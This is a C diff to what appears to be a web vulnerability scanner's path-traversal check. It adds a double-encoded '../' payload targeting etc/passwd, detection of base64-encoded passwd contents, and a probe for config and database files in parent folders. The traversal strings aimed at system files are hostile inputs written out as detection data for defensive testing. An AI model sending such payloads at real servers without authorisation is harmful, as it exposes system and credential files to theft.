@@ -28,6 +28,7 @@ static const struct target targets[] = {
 	{ "%d/" UP "%s", "/etc/passwd", "/etc/group", false },
 	{ UP "%s%%00%x", "/etc/passwd", "/etc/group", false },
 	{ "%r..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f%s", "etc/passwd", "etc/group", false },
+	{ "%r%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%s", "etc/passwd", "etc/group", false },
 	{ "..././..././..././..././..././..././..././..././..././%s", "etc/passwd", "etc/group", false },
 	{ "%r..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f%s", "etc/passwd", "etc/group", false },
 	{ "%r..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af%s", "etc/passwd", "etc/group", false },
@@ -78,9 +79,25 @@ static struct str windows_proof(struct str t)
 	return STR_NULL;
 }
 
+/* The same line in base64, at any of three alignments. */
+static struct str encoded_proof(struct str t)
+{
+	static const char *const cuts[] = { "cm9vdDp4OjA6MDpyb290Oi9yb290O", "Jvb3Q6eDowOjA6cm9vdDovcm9vdD", "yb290Ong6MDowOnJvb3Q6L3Jvb3Q6" };
+
+	for (size_t i = 0; i < ARRAY_SIZE(cuts); i++) {
+		ssize_t at = str_find(t, str_c(cuts[i]));
+
+		if (at >= 0)
+			return str_sub(t, (size_t)at, (size_t)at + strlen(cuts[i]));
+	}
+	return STR_NULL;
+}
+
 static struct str proof_in(const struct scan_exchange *x, bool windows)
 {
-	return windows ? windows_proof(active_content(x)) : unix_proof(active_content(x));
+	struct str t = active_content(x), plain = windows ? windows_proof(t) : unix_proof(t);
+
+	return plain.ptr || windows ? plain : encoded_proof(t);
 }
 
 static bool send_file(struct probe *p, const struct target *t, const char *file,
@@ -141,7 +158,8 @@ static bool try_target(struct probe *p, const struct target *t)
 		return false;
 	/* Another file through the same hole: passwd and group differ, the page does not know both.
 	 */
-	bool sure = send_file(p, t, t->other, &again) && proof_in(again, t->windows).ptr != NULL &&
+	bool sure = send_file(p, t, t->other, &again) &&
+		    (proof_in(again, t->windows).ptr != NULL || !encoded_proof(active_content(again)).ptr) &&
 		    !str_eq(again->body, x->body);
 
 	probe_report(p, &(struct scan_report){ .exchange = x,
@@ -259,6 +277,47 @@ static bool try_endings(struct probe *p, const struct scan_point *pt)
 	return false;
 }
 
+/* Nor any of those: then a program beside or above, by its usual name. It is there (another
+ * answer than for nonsense in the same place), and not in the folder itself nor because of its
+ * name (in a folder that is not there it is missing). */
+static bool try_neighbours(struct probe *p, const struct scan_point *pt)
+{
+	static const char *const names[] = { "config", "settings", "index", "main", "app", "db", "common", "init",
+					     "functions", "login", "database", "conn" };
+	struct diff_side base = diff_base(pt), t, lost, lost2, own, away;
+	for (size_t up = 1; up <= 2; up++) {
+		const char *dots = up == 1 ? "../" : "../../";
+		if (!probe_stable(p) || diff_value(p, probe_printf(p, "%s%.*s", dots, STR_ARG(probe_word(p, 7))), &lost) < 0 ||
+		    diff_same(p, &base, &lost))
+			return false;
+		for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
+			if (diff_value(p, probe_printf(p, "%s%s", dots, names[i]), &t) < 0)
+				return false;
+			if (diff_same(p, &lost, &t) || diff_same(p, &base, &t) || t.x->status >= 400 || diff_blocked(&base, &t))
+				continue;
+			if (diff_value(p, str_c(names[i]), &own) < 0 || diff_same(p, &own, &t) ||
+			    diff_value(p, probe_printf(p, "%.*s/%s", STR_ARG(probe_word(p, 6)), names[i]), &away) < 0 ||
+			    diff_same(p, &away, &t) ||
+			    diff_value(p, probe_printf(p, "%s%.*s", dots, STR_ARG(probe_word(p, 6))), &lost2) < 0 ||
+			    !diff_same(p, &lost, &lost2) || !diff_apart(p, &base, &t, &lost2))
+				continue;
+			probe_report(p, &(struct scan_report){
+						.exchange = t.x,
+						.proof = t.sent,
+						.confidence_set = true,
+						.confidence = CONFIDENCE_CERTAIN,
+						.detail_zh = probe_printf(p, "经由上级目录“%.*s”打开了目录之外的文件；同处的随机名称、目录之内的同名文件都得到另外的响应，打乱次序重现。",
+									  STR_ARG(t.sent)),
+						.detail_en = probe_printf(p, "\"%.*s\" opened a file outside the folder; random names in the same "
+									     "place and the same name inside get another answer, in mixed order.",
+									  STR_ARG(t.sent)),
+					});
+			return true;
+		}
+	}
+	return false;
+}
+
 static void probe_file(struct probe *p, const struct scan_point *pt)
 {
 	size_t tries = ARRAY_SIZE(targets);
@@ -269,7 +328,7 @@ static void probe_file(struct probe *p, const struct scan_point *pt)
 		bool named = may_name_file(pt) && pt->value.len < 100;
 		bool file = named && (str_chr(pt->value, '.') >= 0 || str_chr(pt->value, '/') >= 0 || file_like(pt->name));
 
-		tries = file ? 16 : named ? 4 : 1;
+		tries = file ? 17 : named ? 4 : 1;
 	}
 	for (size_t i = 0; i < tries && !probe_reported(p); i++)
 		if (try_target(p, &targets[i]))
@@ -279,8 +338,8 @@ static void probe_file(struct probe *p, const struct scan_point *pt)
 	try_filter(p, pt);
 	struct diff_side base = diff_base(pt);
 	if (!probe_reported(p) && pt->value.len < 100 && str_chr(pt->value, '.') < 0 && file_like(pt->name) &&
-	    diff_depends(p, &base))
-		try_endings(p, pt);
+	    diff_depends(p, &base) && !try_endings(p, pt))
+		try_neighbours(p, pt);
 }
 
 const struct scan_check check_path_traversal = {
